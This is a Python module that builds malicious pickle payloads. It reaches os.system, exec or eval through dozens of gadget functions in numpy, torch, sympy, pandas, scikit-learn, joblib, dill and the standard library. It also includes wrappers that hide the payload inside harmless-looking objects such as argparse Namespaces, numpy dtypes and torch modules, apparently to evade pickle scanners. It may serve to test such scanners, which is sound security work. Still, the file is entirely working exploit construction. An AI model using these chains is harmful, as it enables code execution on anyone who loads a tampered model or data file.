"""Functions of libraries that evaluate text, call what they are given, keep it for later or unpickle it, as opcodes that call them."""

from __future__ import annotations


from attacks.case import (
    EXPRESSION,
    SHELL,
    STATEMENT,
    Raw,
    call,
    called,
    glob,
    push,
    stack_glob,
    stream,
)
from attacks.containers import npy

OS_SYSTEM = glob("os", "system")
OS = call("importlib", "import_module", "os")
NESTED = stream(call("os", "system", SHELL), 2)
BYTES_IO = call("io", "BytesIO", NESTED)
TRUE, FALSE = Raw(b"\x88"), Raw(b"\x89")


def method(module: str, name: str, instance: Raw, *arguments: object) -> Raw:
    """A method taken from its class and called with an instance."""
    return called(stack_glob(module, name), instance, *arguments)


def built(instance: Raw, state: object) -> Raw:
    return Raw(instance + push(state) + b"b")


def evaluators() -> dict[str, Raw]:
    """Library functions that evaluate text."""
    return {
        "numpy-f2py-myeval": call("numpy.f2py.crackfortran", "myeval", EXPRESSION),
        "numpy-measure": call("numpy.testing", "measure", STATEMENT),
        "torch-exec-wrapper": call("torch.jit.unsupported_tensor_ops", "execWrapper", STATEMENT, {}, {}),
        "torch-fx-exec": call("torch.fx.graph_module", "_exec_with_source", STATEMENT, {}),
        "torch-fx-forward": call("torch.fx.graph_module", "_forward_from_src", STATEMENT + "\nforward = 1", {}),
        "sympy-eval-expr": call("sympy.parsing.sympy_parser", "eval_expr", EXPRESSION, {}, {}),
        "attrs-compile": call("attr._make", "_linecache_and_compile", STATEMENT, "x", {}),
        "forward-ref": method(
            "typing",
            "ForwardRef._evaluate",
            call("typing", "ForwardRef", EXPRESSION),
            {},
            {},
            call("builtins", "frozenset"),
        ),
        "sympy-simplify": call("sympy", "simplify", EXPRESSION),
        "sympy-n": call("sympy", "N", EXPRESSION),
        "sympy-lambdify": called(call("sympy", "lambdify", (), EXPRESSION)),
        "torch-benchmark-timer": method(
            "torch.utils.benchmark", "Timer.timeit", call("torch.utils.benchmark", "Timer", STATEMENT), 1
        ),
        "dill-eval-repr": call("dill._dill", "_eval_repr", EXPRESSION),
        "python-api": call("ctypes", "pythonapi.PyRun_SimpleString", STATEMENT.encode()),
        "source-to-code": call("builtins", "exec", call("importlib.abc", "InspectLoader.source_to_code", STATEMENT)),
        "type-hints-of-namespace": call(
            "typing",
            "get_type_hints",
            built(call("argparse", "Namespace"), {"__annotations__": {"weight": EXPRESSION}}),
        ),
        "logging-factory": call(
            "logging.config", "dictConfig", {"version": 1, "filters": {"f": {"()": "os.system", "command": SHELL}}}
        ),
        "hydra-get-method": called(call("hydra.utils", "get_method", "os.system"), SHELL),
        "entry-point-load": called(
            method(
                "importlib.metadata", "EntryPoint.load", call("importlib.metadata", "EntryPoint", "a", "os:system", "g")
            ),
            SHELL,
        ),
        "cloudpickle-subimport": called(
            call("builtins", "getattr", call("cloudpickle.cloudpickle", "subimport", "os"), "system"), SHELL
        ),
        "dataclass-create-fn": call("dataclasses", "_create_fn", "f", [f"x={EXPRESSION}"], ["pass"]),
    }


def callers() -> dict[str, Raw]:
    """Library functions that call what they are given with what they are given."""
    series = call("pandas", "Series", [SHELL])
    task = (OS_SYSTEM, (SHELL,), {})
    return {
        "numpy-frompyfunc": called(call("numpy", "frompyfunc", OS_SYSTEM, 1, 1), SHELL),
        "numpy-vectorize": called(call("numpy", "vectorize", OS_SYSTEM), SHELL),
        "numpy-no-warnings": call("numpy.testing", "assert_no_warnings", OS_SYSTEM, SHELL),
        "numpy-assert-raises": call("numpy.testing", "assert_raises", glob("builtins", "OSError"), OS_SYSTEM, SHELL),
        "scipy-function-wrapper": called(call("scipy._lib._util", "_FunctionWrapper", OS_SYSTEM, ()), SHELL),
        "scipy-map-wrapper": call(
            "builtins", "list", called(call("scipy._lib._util", "MapWrapper"), OS_SYSTEM, [SHELL])
        ),
        "sklearn-func-wrapper": called(
            built(call("sklearn.utils.parallel", "_FuncWrapper", OS_SYSTEM), {"config": {}, "warning_filters": []}),
            SHELL,
        ),
        "sklearn-function-transformer": method(
            "sklearn.preprocessing",
            "FunctionTransformer.transform",
            call("sklearn.preprocessing", "FunctionTransformer", OS_SYSTEM),
            SHELL,
        ),
        "sklearn-transformer-state": method(
            "sklearn.preprocessing",
            "FunctionTransformer.transform",
            built(call("sklearn.preprocessing", "FunctionTransformer"), {"func": OS_SYSTEM}),
            SHELL,
        ),
        "joblib-parallel": called(call("joblib", "Parallel"), [task]),
        "pandas-pipe": call("pandas.core.common", "pipe", SHELL, OS_SYSTEM),
        "pandas-apply-if-callable": call("pandas.core.common", "apply_if_callable", OS_SYSTEM, SHELL),
        "pandas-series-map": method("pandas", "Series.map", series, OS_SYSTEM),
        "pandas-series-apply": method("pandas", "Series.apply", series, OS_SYSTEM),
        "pandas-map-infer": call("pandas._libs.lib", "map_infer", call("numpy", "array", [SHELL], "O"), OS_SYSTEM),
        "torch-tree-map": call("torch.utils._pytree", "tree_map", OS_SYSTEM, SHELL),
        "torch-run-function": call(
            "torch.distributed.rpc.internal",
            "_run_function",
            call("torch.distributed.rpc.internal", "PythonUDF", OS_SYSTEM, (SHELL,), {}),
        ),
        "torch-checkpoint": call("torch.utils.checkpoint", "checkpoint", OS_SYSTEM, SHELL),
        "torch-no-grad": called(called(call("torch", "no_grad"), OS_SYSTEM), SHELL),
        "heapq-key": call("heapq", "nlargest", 1, [SHELL], OS_SYSTEM),
        "groupby-key": call("builtins", "list", call("itertools", "groupby", [SHELL], OS_SYSTEM)),
        "takewhile": call("builtins", "list", call("itertools", "takewhile", OS_SYSTEM, [SHELL])),
        "filterfalse-zip": call(
            "builtins", "dict", call("builtins", "zip", call("itertools", "filterfalse", OS_SYSTEM, [SHELL]), [1])
        ),
        "counter-of-map": call("collections", "Counter", call("builtins", "map", OS_SYSTEM, [SHELL])),
        "ordered-dict-of-map": call(
            "collections", "OrderedDict", call("builtins", "zip", call("builtins", "map", OS_SYSTEM, [SHELL]), [1])
        ),
        "numpy-fromiter-map": call("numpy", "fromiter", call("builtins", "map", OS_SYSTEM, [SHELL]), "i8"),
        "default-factory": call(
            "operator",
            "getitem",
            call("collections", "defaultdict", call("functools", "partial", OS_SYSTEM, SHELL)),
            "w",
        ),
        "json-default-state": method(
            "json", "JSONEncoder.encode", built(call("json", "JSONEncoder"), {"default": OS_SYSTEM}), SHELL.encode()
        ),
        "set-update-map": call("builtins", "frozenset", call("builtins", "map", OS_SYSTEM, [SHELL])),
        "str-join-map": method(
            "builtins",
            "str.join",
            Raw(push("")),
            call("builtins", "map", call("functools", "partial", OS_SYSTEM), [SHELL]),
        ),
        "extend-from-map": Raw(
            push([])
            + b"0"
            + method("builtins", "list.extend", Raw(push([])), call("builtins", "map", OS_SYSTEM, [SHELL]))
        ),
        "context-run": method("contextvars", "Context.run", call("contextvars", "Context"), OS_SYSTEM, SHELL),
        "lru-cache": called(called(call("functools", "lru_cache", 1), OS_SYSTEM), SHELL),
        "single-dispatch": called(call("functools", "singledispatch", OS_SYSTEM), SHELL),
        "profile-runcall": method("cProfile", "Profile.runcall", call("cProfile", "Profile"), OS_SYSTEM, SHELL),
        "method-type": called(call("types", "MethodType", OS_SYSTEM, SHELL)),
        "torch-rebuild-from-type": call(
            "torch._tensor", "_rebuild_from_type", OS_SYSTEM, glob("torch", "Tensor"), (SHELL,), {}
        ),
    }


def later() -> dict[str, Raw]:
    """Objects that are given a callable and call it later: when asked, when they die, or when the process ends."""
    run = call("functools", "partial", OS_SYSTEM, SHELL)
    field = call("dataclasses", "Field", glob("dataclasses", "MISSING"), run, TRUE, TRUE, None, TRUE, {}, FALSE)
    loop = call("asyncio", "new_event_loop")
    return {
        "mock-side-effect": called(call("unittest.mock", "Mock", None, OS_SYSTEM), SHELL),
        "property-get": method("builtins", "property.__get__", call("builtins", "property", OS_SYSTEM), SHELL),
        "iterator-sentinel": call("builtins", "list", call("builtins", "iter", run, 0)),
        "default-factory-format": call("builtins", "str.format_map", "{weight}", call("collections", "defaultdict", run)),
        "dataclass-factory": called(call("dataclasses", "make_dataclass", "Config", [("weight", glob("builtins", "int"), field)])),
        "weakref-finalize": call("weakref", "finalize", call("argparse", "Namespace"), OS_SYSTEM, SHELL),
        "process-end": call("multiprocessing.util", "Finalize", None, OS_SYSTEM, (SHELL,), None, 1),
        "timer-run": method("threading", "Timer.run", call("threading", "Timer", 0, OS_SYSTEM, (SHELL,))),
        "work-item": method("concurrent.futures.thread", "_WorkItem.run", call("concurrent.futures.thread", "_WorkItem", call("concurrent.futures", "Future"), OS_SYSTEM, (SHELL,), {})),
        "asyncio-handle": method("asyncio.events", "Handle._run", call("asyncio.events", "Handle", OS_SYSTEM, (SHELL,), loop)),
        "asyncio-thread": call("asyncio", "run", call("asyncio", "to_thread", OS_SYSTEM, SHELL)),
        "thread-pool-map": method("multiprocessing.pool", "ThreadPool.map", call("multiprocessing.pool", "ThreadPool", 1), OS_SYSTEM, [SHELL]),
        "context-manager": called(call("contextlib", "contextmanager", OS_SYSTEM), SHELL),
        "exit-stack-close": kept(call("contextlib", "ExitStack"), ("contextlib", "ExitStack.callback", OS_SYSTEM, SHELL), ("contextlib", "ExitStack.close")),
        "scheduler": kept(call("sched", "scheduler", glob("time", "time"), glob("time", "sleep")), ("sched", "scheduler.enter", 0, 1, OS_SYSTEM, (SHELL,)), ("sched", "scheduler.run")),
        "xmlrpc-dispatch": kept(call("xmlrpc.server", "SimpleXMLRPCDispatcher"), ("xmlrpc.server", "SimpleXMLRPCDispatcher.register_function", OS_SYSTEM), ("xmlrpc.server", "SimpleXMLRPCDispatcher._dispatch", "system", (SHELL,))),
        "sqlite-function": kept(call("sqlite3", "connect", ":memory:"), ("sqlite3", "Connection.create_function", "f", 1, OS_SYSTEM), ("sqlite3", "Connection.execute", f"select f('{SHELL}')")),
        "argparse-type": kept(call("argparse", "ArgumentParser"), ("argparse", "ArgumentParser.register", "type", None, OS_SYSTEM), ("argparse", "ArgumentParser._get_values", call("argparse", "Action", ["-x"], "x"), [SHELL])),
        "data-loader": call("builtins", "list", call("torch.utils.data", "DataLoader", [SHELL], None, FALSE, None, None, 0, OS_SYSTEM)),
        "torch-map-aggregate": call("torch.fx.node", "map_aggregate", SHELL, OS_SYSTEM),
        "optree-map": call("optree", "tree_map", OS_SYSTEM, SHELL),
        "pandas-index-map": method("pandas", "Index.map", call("pandas", "Index", [SHELL]), OS_SYSTEM),
        "pandas-rename": method("pandas", "Series.rename", call("pandas", "Series", [1], [SHELL]), OS_SYSTEM),
        "pandas-groupby": method("pandas", "Series.groupby", call("pandas", "Series", [1], [SHELL]), OS_SYSTEM),
        "joblib-memory": called(method("joblib", "Memory.cache", call("joblib", "Memory", None), OS_SYSTEM), SHELL),
        "loky-call-item": called(call("joblib.externals.loky.process_executor", "_CallItem", 0, OS_SYSTEM, (SHELL,), {})),
    }  # fmt: skip


def kept(instance: Raw, *calls: tuple[object, ...]) -> Raw:
    """An object in the memo, and methods that are called with it one after another."""
    code = instance + b"q\xc8"
    for module, name, *arguments in calls:
        code += b"0" + called(stack_glob(str(module), str(name)), Raw(b"h\xc8"), *arguments)
    return Raw(code)


def states(payload: Raw) -> dict[str, Raw]:
    """Honest objects with the payload's result, which is zero, at a place of their state where it does no harm."""

    def made(module: str, name: str, state: object) -> Raw:
        return built(Raw(glob(module, name) + b")\x81"), state)

    plain = call("numpy", "dtype", "<f4")
    shell = called(stack_glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,), b"b")
    zeros = call("numpy", "frombuffer", bytes(16), "<f4")
    objects = call("numpy", "dtype", "O")
    return {
        "ordered-dict": built(call("collections", "OrderedDict"), {"_metadata": payload}),
        "default-dict": built(call("collections", "defaultdict", glob("builtins", "list")), {"note": payload}),
        "default-dict-key": Raw(call("collections", "defaultdict", glob("builtins", "int")) + b"(" + payload + b"Nu"),
        "namespace": made("argparse", "Namespace", {"lr": 1, "seed": payload}),
        "namespace-slots": made("argparse", "Namespace", (None, {"seed": payload})),
        "simple-namespace": made("types", "SimpleNamespace", {"seed": payload}),
        "reconstructor": built(call("copyreg", "_reconstructor", glob("argparse", "Namespace"), glob("builtins", "object"), None), {"seed": payload}),
        "newobj-argument": Raw(glob("builtins", "int") + payload + b"\x85\x81"),
        "newobj-ex-keyword": Raw(glob("argparse", "Namespace") + b")}" + push("x") + payload + b"s\x92"),
        "deque-limit": call("collections", "deque", [1], payload),
        "exception-state": built(call("builtins", "ValueError", "x"), {"note": payload}),
        "counter": call("collections", "Counter", {"x": payload}),
        "frozenset-item": Raw(b"(" + payload + b"\x91"),
        "set-item": Raw(b"\x8f(" + payload + b"\x90"),
        "dtype-flags": built(call("numpy", "dtype", "V8"), (3, "|", None, None, None, 8, 1, payload)),
        "dtype-offset": built(call("numpy", "dtype", "V4"), (3, "|", None, ("a",), {"a": (plain, payload)}, 4, 1, 0)),
        "dtype-metadata": built(call("numpy", "dtype", "V8"), (4, "|", None, None, None, 8, 1, 0, {"note": payload})),
        "array-order": built(shell, (1, (4,), plain, payload, bytes(16))),
        "array-item": built(shell, (1, (2,), objects, FALSE, [payload, 1])),
        "array-version": built(shell, (payload, (4,), plain, FALSE, bytes(16))),
        "scalar": call("numpy._core.multiarray", "scalar", objects, payload),
        "estimator": made("sklearn.linear_model", "LinearRegression", {"coef_": zeros, "intercept_": payload, "n_features_in_": 4}),
        "torch-module": made("torch.nn", "Identity", {"training": payload, "_parameters": {}, "_buffers": {}, "_modules": {}}),
        "torch-size": call("torch", "Size", (payload, 4)),
        "torch-device": call("torch", "device", "cpu", payload),
        "torch-generator-seed": method("torch", "Generator.manual_seed", call("torch", "Generator"), payload),
        "pandas-index": call("pandas", "Index", [payload]),
        "timestamp": call("datetime", "timedelta", payload),
    }  # fmt: skip


def readers() -> dict[str, Raw]:
    """Library functions that unpickle what they are given."""
    return {
        "torch-storage-bytes": call("torch.storage", "_load_from_bytes", NESTED),
        "numpy-load": call("numpy", "load", BYTES_IO, None, TRUE),
        "numpy-read-array": call("numpy.lib.format", "read_array", call("io", "BytesIO", npy("|O", NESTED)), TRUE),
        "joblib-load": call("joblib", "load", BYTES_IO),
        "pandas-read-pickle": call("pandas", "read_pickle", call("io", "BytesIO", NESTED), None),
        "dill-loads": call("dill", "loads", NESTED),
        "cloudpickle-loads": call("cloudpickle", "loads", NESTED),
        "reduction-loads": call("multiprocessing.reduction", "ForkingPickler.loads", NESTED),
        "loky-loads": call("joblib.externals.loky.backend.reduction", "loads", NESTED),
    }
